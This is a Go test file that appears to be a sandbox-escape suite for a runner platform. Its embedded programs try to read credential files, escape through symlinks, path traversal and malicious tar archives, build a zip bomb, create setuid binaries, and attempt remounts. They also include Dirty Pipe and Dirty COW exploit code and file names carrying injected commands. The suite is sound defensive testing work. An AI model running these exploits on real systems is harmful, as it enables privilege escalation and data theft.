package hostile

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"fmt"
	"os"
	"regexp"
	"strings"
	"time"
	"unicode/utf8"

	"rockpool/tests/platform"
)

var fileSystem = []attack{
	{id: "B1", what: "reads what belongs to the node", language: "sh", program: `
for f in /etc/shadow /etc/gshadow /root/.ssh /root/.bashrc /var/lib/rockpool /etc/ssh /var/log /boot /work "$CANARY" "$PARENT_OF_DATA" /run/docker.sock; do
  [ -e "$f" ] && echo "$f is there"; done
find / -xdev -name 'configuration.yaml' -o -xdev -name '*.db' -path '*raft*' 2>/dev/null | head -5
ls /home | grep -vx user; ls -A /var /root 2>/dev/null | grep -E 'lib/rockpool|log$|\.ssh'; true`, want: "exit 0", stdout: silent},
	{id: "B2", what: "../ and absolute paths in the file interface", script: traverse},
	{id: "B3", what: "links to the node's files, downloaded and written", language: "sh",
		program: `ln -s "$CANARY/file" out; ln -s /etc/shadow shadow; ln -s "$CANARY" dir; ln -s ../../../../../../../../"$CANARY/file" up; ln -s /proc/1/root root`,
		want:    "exit 0", then: followLinks},
	{id: "B4", what: "a directory and a link that change places all the time", language: "c", limit: 4, program: `
int main(void) {
	mkdir("a", 0777); mkdir("a/inner.d", 0777); close(creat("a/file", 0666));
	symlink(getenv("CANARY"), "b");
	puts("go"); fflush(stdout);
	for (;;) syscall(SYS_renameat2, AT_FDCWD, "a", AT_FDCWD, "b", 2);
}`, want: "timeout", script: whileItSwaps},
	{id: "B5", what: "downloads of what is not a file", language: "py", program: `
os.mkfifo("fifo")
socket.socket(socket.AF_UNIX).bind("socket")
os.symlink("/dev/zero", "zero"); os.symlink("/proc/self/mem", "mem"); os.symlink("/dev/stdin", "stdin")
`, want: "exit 0", then: noFile},
	{id: "B6", what: "names that try to be something else", language: "py", program: `
names = [b"a\nb", b"q\"'", b"-rf", b"$(id)", "\u202egpj.exe".encode(), b"\xff\xfe", b"back\\slash", b"t\tab", b"\x1b]52;c;eA==\x07", b"{\"x\":1}"]
for n in names: open(n, "w").close()
`, want: "exit 0", then: strangeNames},
	{id: "B7", what: "archives: slip, links, devices, a bomb, the same name twice", language: "py", root: true, program: `
import io, tarfile, zipfile, subprocess
canary = os.environ["CANARY"]
with tarfile.open("a.tar", "w") as t:
    def add(name, kind=tarfile.REGTYPE, link="", data=b"attacked", **more):
        i = tarfile.TarInfo(name); i.type, i.linkname, i.size, i.mode = kind, link, len(data) if kind == tarfile.REGTYPE else 0, 0o6777
        for k, v in more.items(): setattr(i, k, v)
        t.addfile(i, io.BytesIO(data) if i.size else None)
    add("../../../../../../../.." + canary + "/file"); add(canary + "/file")
    add("dir", tarfile.SYMTYPE, canary); add("dir/file")
    add("hard", tarfile.LNKTYPE, canary + "/file"); add("hard")
    add("disk", tarfile.BLKTYPE, devmajor=8, devminor=0); add("mem", tarfile.CHRTYPE, devmajor=1, devminor=1)
    add("twice", data=b"one"); add("twice", data=b"two")
subprocess.run(["tar", "-xPf", "a.tar"], stderr=subprocess.DEVNULL)
for name in ("disk", "mem"):
    try: open(name, "rb").read(1); print(name, "was read")
    except OSError: pass
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("zeroes", "w", force_zip64=True) as f:
        for i in range(600): f.write(bytes(1 << 20))
try:
    with zipfile.ZipFile("bomb.zip") as z: z.extractall("bomb"); print("600 MB were unpacked")
except OSError as e: print(errno.errorcode[e.errno])
`, want: outOfMemory + "|exit 0", stdout: `(?:ENOSPC|EFBIG)?\n?`, then: func(ctx context.Context, a *arena, runner string) error {
		twice := []platform.File{{Path: "dup", Content: []byte("one")}, {Path: "dup", Content: []byte("two")}, {Path: "dup/"}, {Path: "./dup", Content: []byte("three")}}
		status := error(nil)
		if err := a.Copy(ctx, runner, []string{"./*", "./*"}, twice...); err != nil && !errors.As(err, new(*platform.StatusError)) {
			status = err
		}
		return errors.Join(status, a.unharmed())
	}},
	{id: "B8", what: "deletes that try to leave the root", language: "sh",
		program: `ln -s "$CANARY" dir; ln -s / slash; ln -s /usr usr; mkdir sub; ln -s "$CANARY/file" sub/file; ln -s /proc/1/root sub/root`,
		want:    "exit 0", then: deletions},
	{id: "B9", what: "setuid programs", language: "sh", root: true,
		program: `cp /bin/bash b; chown root:root b; chmod 6755 b; cp /usr/bin/id i; chmod 6755 i; echo made`, want: "exit 0", stdout: "made\n",
		then: func(ctx context.Context, a *arena, runner string) error {
			out, err := a.sh(ctx, runner, `./b -pc 'id -u'; ./i -u; id -u`)
			if f := strings.Fields(out); err == nil && (len(f) != 3 || f[0] != f[2] || f[1] != f[2] || f[2] == "0") {
				err = fmt.Errorf("ids %q", f)
			}
			return err
		}},
	{id: "B10", what: "mounts, as root of the runner", language: "c", root: true, program: `
int main(void) {
	ATTEMPT(mount(0, "/", 0, MS_REMOUNT, 0));
	ATTEMPT(mount(0, "/usr", 0, MS_REMOUNT | MS_BIND, 0));
	ATTEMPT(mount("/usr", "/tmp", 0, MS_BIND, 0));
	ATTEMPT(mount("proc", "/tmp", "proc", 0, 0));
	ATTEMPT(umount2("/proc/sys", MNT_DETACH));
	ATTEMPT(umount2("/proc", MNT_DETACH));
	ATTEMPT(syscall(SYS_pivot_root, "/tmp", "/tmp"));
	ATTEMPT(chroot("/tmp"));
	ATTEMPT(syscall(SYS_fsopen, "tmpfs", 0));
	ATTEMPT(syscall(SYS_open_tree, -100, "/", 1));
	ATTEMPT(syscall(SYS_move_mount, -100, "/usr", -100, "/tmp", 0));
	ATTEMPT(syscall(442, -100, "/usr", 0, 0, 0));
	ATTEMPT(open("/usr/bin/attacked", O_CREAT | O_WRONLY, 0755));
	ATTEMPT(mknod("/tmp/disk", S_IFBLK | 0666, 8 << 8));
	return 0;
}`, want: "exit 0", stdout: silent},
	{id: "B11", what: "the page cache of files that all share", language: "c", root: true, program: `
static const char *const shared[] = {"/usr/bin/true", "/usr/bin/env", "/etc/os-release"};
static volatile int over;
static char *view; static int self;
static void *forget(void *unused) { while (!over) madvise(view, 4096, MADV_DONTNEED); return 0; }
static void *overwrite(void *unused) { while (!over) { lseek(self, (long)view, SEEK_SET); write(self, "attacked", 8); } return 0; }
int main(void) {
	for (int i = 0; i < 3; i++) {
		int file = open(shared[i], O_RDONLY), p[2];
		if (file < 0) { printf("no %s\n", shared[i]); return 1; }
		ATTEMPT(open(shared[i], O_WRONLY)); ATTEMPT(open(shared[i], O_RDWR | O_TRUNC));
		ATTEMPT(mmap(0, 4096, PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
		// A pipe whose pages may be appended to, then a page of the file in it, then an append (CVE-2022-0847).
		char page[4096] = {0};
		pipe(p);
		int size = fcntl(p[1], F_GETPIPE_SZ);
		for (int n = 0; n < size; n += sizeof page) write(p[1], page, sizeof page);
		for (int n = 0; n < size; n += sizeof page) read(p[0], page, sizeof page);
		off_t at = 1;
		splice(file, &at, p[1], 0, 1, 0);
		write(p[1], "attacked", 8);
		// A private copy that is taken away while it is written (CVE-2016-5195).
		pthread_t a, b;
		view = mmap(0, 4096, PROT_READ, MAP_PRIVATE, file, 0); self = open("/proc/self/mem", O_RDWR); over = 0;
		pthread_create(&a, 0, forget, 0); pthread_create(&b, 0, overwrite, 0);
		usleep(200000); over = 1;
		pthread_join(a, 0); pthread_join(b, 0);
	}
	puts("tried");
	return 0;
}`, want: "exit 0", stdout: "tried\n", then: sharedFilesAreWhole},
	{id: "B13", what: "a runner that goes while everything in it is in use", script: busyAtTheEnd},
	{id: "B14", what: "times, space and numbers of an earlier tenant", language: "sh", root: true,
		program: `head -c 30M /dev/zero > /tmp/big; touch -d 1999-01-01 /workspace /tmp /home/user /etc; mkdir -p /tmp/d/{1..500}; rm -rf /tmp/big; true`,
		want:    "exit 0", then: inTheNextRunners(
			`for d in /workspace /tmp /home/user /etc; do [ $(date -r $d +%Y) -gt 2020 ] || echo "$d has a time of before"; done
set -- $(df -k --output=used,iused /tmp | tail -1); [ $1 -lt 2000 ] || echo "$1 KB used"; [ $2 -lt 100 ] || echo "$2 inodes used"; ls -A /tmp`, "")},
	{id: "B12", what: "the supervisor's /proc", language: "sh", root: true,
		program: `for f in root cwd exe fd environ mem maps; do ls /proc/1/$f/ >/dev/null 2>&1 && echo $f; cat /proc/1/$f 2>/dev/null | head -c 10; done; true`,
		want:    "exit 0", stdout: silent, then: func(ctx context.Context, a *arena, runner string) error {
			for _, p := range []string{"/proc/1/environ", "/proc/1/root/etc/shadow", "/proc/1/mem", "/proc/self/root/../../etc/shadow", "/proc/1/maps"} {
				if data, err := a.Download(ctx, runner, p); err == nil && len(data) > 0 {
					return fmt.Errorf("%s: %s", p, short(string(data)))
				}
			}
			return nil
		}},
}

// sharedFilesAreWhole compares what the next tenant sees with what the node has.
func sharedFilesAreWhole(ctx context.Context, a *arena, runner string) error {
	var want strings.Builder
	for _, path := range []string{"/usr/bin/true", "/usr/bin/env", "/etc/os-release"} {
		text, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		fmt.Fprintf(&want, "%x  %s\n", sha256.Sum256(text), path)
		if bytes.Contains(text, []byte("attacked")) {
			return fmt.Errorf("%s of the node was changed", path)
		}
	}
	return inTheNextRunners("sha256sum /usr/bin/true /usr/bin/env /etc/os-release", regexp.QuoteMeta(want.String()))(ctx, a, runner)
}

// busyAtTheEnd releases a runner in which processes have working directories, open files, mappings, terminals and unreaped children.
func busyAtTheEnd(ctx context.Context, a *arena, runner string) error {
	s, err := a.Start(ctx, runner, platform.Execution{Privileged: true, Command: `mkdir -p /workspace/deep/er && cd /workspace/deep/er && exec python3 -c '
import os, mmap, signal
for s in range(1, 32):
    try: signal.signal(s, signal.SIG_IGN)
    except (OSError, ValueError): pass
held = [open("f%d" % i, "w+b") for i in range(50)]
held[0].truncate(1 << 20)
m = mmap.mmap(held[0].fileno(), 1 << 20)
for i in range(20):
    if os.fork() == 0:
        os.setsid()
        if i % 2: os._exit(0)
        os.chdir("/proc/self/fd" if i % 4 else "/dev/shm")
        while True: signal.pause()
print("busy", flush=True)
while True: signal.pause()
'`})
	if err != nil {
		return err
	}
	defer s.Abort()
	for m := (platform.Message{}); !strings.Contains(m.Text, "busy"); {
		if m, err = s.Next(ctx); err != nil {
			return err
		}
	}
	start := time.Now()
	if err := a.Release(ctx, runner); err != nil {
		return err
	}
	if took := time.Since(start); took > 5*time.Second {
		return fmt.Errorf("the release took %v", took)
	}
	return nil // cleanUp waits until nothing is left
}

// up leads from any directory inside to the root and far beyond.
var up = strings.Repeat("../", 20)

func traverse(ctx context.Context, a *arena, runner string) error {
	file := a.canaries + "/file"
	for _, p := range []string{file, up + file, "." + file, "sub/" + up + file, "//" + file, "/proc/self/cwd/" + up + file} {
		// An earlier round may have made a file of that name inside.
		if data, _ := a.Download(ctx, runner, p); strings.Contains(string(data), a.secret) {
			return fmt.Errorf("download of %s: %s", p, short(string(data)))
		}
		// Writing may make a file of that name inside; unharmed looks at the node's.
		_ = a.Copy(ctx, runner, []string{p}, platform.File{Path: p + "2", Content: []byte("x")}, platform.File{Path: p, Content: []byte("x")})
		if err := a.unharmed(); err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
	}
	return nil
}

func followLinks(ctx context.Context, a *arena, runner string) error {
	for _, p := range []string{"out", "shadow", "dir/file", "up", "root/etc/shadow", "root" + a.canaries + "/file"} {
		if data, err := a.Download(ctx, runner, p); err == nil {
			return fmt.Errorf("download of %s: %s", p, short(string(data)))
		}
	}
	for _, p := range []string{"out", "up", "dir/file", "dir/new", "root/tmp/new"} {
		_ = a.Copy(ctx, runner, nil, platform.File{Path: p, Content: []byte("x")})
	}
	return a.unharmed()
}

// whileItSwaps uses the file interface while two names change places.
func whileItSwaps(ctx context.Context, a *arena, runner string) error {
	err := await(ctx, func() (bool, error) {
		files, err := a.List(ctx, runner, "./", false)
		for _, f := range files {
			if strings.HasSuffix(f.Name, "b") {
				return true, err
			}
		}
		return false, err
	})
	for range 40 {
		if err != nil {
			return err
		}
		files, _ := a.List(ctx, runner, "./", true)
		for _, f := range files {
			if strings.HasSuffix(f.Name, "/inner") {
				err = fmt.Errorf("a file of the node was listed: %+v", f)
			}
		}
		for _, name := range []string{"a/", "b/"} {
			if data, getErr := a.Download(ctx, runner, name+"file"); getErr == nil && strings.Contains(string(data), a.secret) {
				err = errors.Join(err, errors.New("a file of the node was downloaded"))
			}
			_ = a.Copy(ctx, runner, nil, platform.File{Path: name + "file", Content: []byte("overwritten")})
			_ = a.Copy(ctx, runner, []string{name + "file", name + "dir"})
		}
		err = errors.Join(err, a.unharmed())
	}
	_ = a.Copy(ctx, runner, []string{"./*"})
	return errors.Join(err, a.unharmed())
}

func noFile(ctx context.Context, a *arena, runner string) error {
	for _, p := range []string{"fifo", "socket", "zero", "mem", "stdin", "/dev/zero", "/dev/null", "/dev/tty", "/proc/self/mem", "/proc/self/fd/0", "/dev/pts/0", "/dev/stdin"} {
		short, cancel := context.WithTimeout(ctx, 3*time.Second)
		data, err := a.Download(short, runner, p)
		cancel()
		status, ok := errors.AsType[*platform.StatusError](err)
		if !ok || status.Status != 424 {
			return fmt.Errorf("download of %s: %d bytes, %w", p, len(data), err)
		}
		short, cancel = context.WithTimeout(ctx, 3*time.Second)
		err = a.Copy(short, runner, nil, platform.File{Path: p, Content: []byte("x")})
		cancel()
		if errors.Is(err, context.DeadlineExceeded) {
			return fmt.Errorf("writing %s: %w", p, err)
		}
	}
	return nil
}

func strangeNames(ctx context.Context, a *arena, runner string) error {
	status, body, err := a.Do(ctx, "GET", "/runners/"+runner+"/files?path=./", nil)
	if err != nil || status != 200 {
		return fmt.Errorf("status %d: %w", status, err)
	}
	if bytes.ContainsFunc(body, func(c rune) bool { return c < ' ' }) || !utf8.Valid(body) {
		return fmt.Errorf("a raw byte came through: %s", short(string(body)))
	}
	files, err := a.List(ctx, runner, "./", true)
	if err == nil && len(files) != 11 { // and the program itself
		err = fmt.Errorf("%d names: %s", len(files), short(string(body)))
	}
	return err
}

func deletions(ctx context.Context, a *arena, runner string) error {
	for _, p := range []string{"dir/file", "dir/./", "dir/dir", "slash/usr/bin/attr", "sub/root/etc/passwd", "../..", "/", "/..", "/proc", "/dev",
		a.canaries, up + a.canaries, "sub", "./*"} {
		_ = a.Copy(ctx, runner, []string{p})
		if err := a.unharmed(); err != nil {
			return fmt.Errorf("%s: %w", p, err)
		}
	}
	_, err := a.sh(ctx, runner, "test -c /dev/null && test -d /proc/self")
	return err
}
